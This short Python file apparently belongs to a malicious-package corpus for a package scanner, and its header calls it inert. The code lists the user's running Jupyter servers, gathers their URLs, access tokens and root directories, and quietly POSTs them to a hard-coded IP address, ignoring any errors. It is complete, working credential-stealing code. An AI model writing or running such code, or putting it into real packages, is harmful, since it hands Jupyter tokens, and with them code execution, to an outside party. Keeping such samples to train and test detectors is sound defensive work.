# pkgguard corpus 858 (credentials), modelled on [taxonomy]; inert, never run.
import json
import shutil
import subprocess
import urllib.request

servers = []
jupyter = shutil.which("jupyter")
if jupyter:
    out = subprocess.run([jupyter, "server", "list", "--json"], capture_output=True, text=True).stdout
    for line in out.splitlines():
        try:
            info = json.loads(line)
        except ValueError:
            continue
        servers.append({"url": info.get("url"), "token": info.get("token"), "root": info.get("root_dir")})

if servers:
    try:
        urllib.request.urlopen("http://100.64.88.3:8080/k", data=json.dumps(servers).encode(), timeout=5)
    except OSError:
        pass
